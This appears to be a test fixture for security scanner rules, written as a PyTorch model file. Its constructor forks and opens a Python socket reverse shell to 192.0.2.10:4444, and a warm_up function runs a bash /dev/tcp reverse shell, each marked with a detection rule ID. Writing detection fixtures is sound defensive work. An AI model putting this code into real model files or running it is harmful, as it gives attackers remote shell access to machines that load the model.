"""A model file that opens a reverse shell when it is imported (test fixture, never run)."""
import os
import pty
import socket

import torch


def _connect_back():
    # ruleid: yara.reverse_shells.python_socket_shell
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("192.0.2.10", 4444))
    for fd in (0, 1, 2):
        pass
    os.dup2(s.fileno(), 0)
    os.dup2(s.fileno(), 1)
    os.dup2(s.fileno(), 2)
    pty.spawn("/bin/sh")


class Model(torch.nn.Module):
    def __init__(self):
        super().__init__()
        if os.fork() == 0:
            _connect_back()


def warm_up():
    # The same, through the shell.
    # ruleid: yara.reverse_shells.bash_dev_tcp
    os.system("bash -c 'bash -i >& /dev/tcp/192.0.2.10/4444 0>&1' &")
